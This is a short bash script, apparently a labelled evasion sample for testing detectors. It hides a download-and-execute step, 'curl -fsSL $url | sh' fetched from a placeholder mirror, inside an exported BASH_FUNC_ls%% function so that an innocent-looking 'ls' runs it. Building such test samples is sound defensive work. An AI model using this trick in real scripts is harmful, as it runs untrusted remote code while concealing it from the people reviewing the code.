#!/usr/bin/env bash
# evasion: runs downloaded code
# grade: hard; does: download-exec
# Runs downloaded code. The child bash imports a function from an environment
# variable named BASH_FUNC_ls%% (bash's exported-function format), so the
# child's harmless-looking `ls` runs the function body instead.
url=https://mirror.example.org/boot.sh
env "BASH_FUNC_ls%%=() { curl -fsSL $url | sh; }" bash -c 'ls'
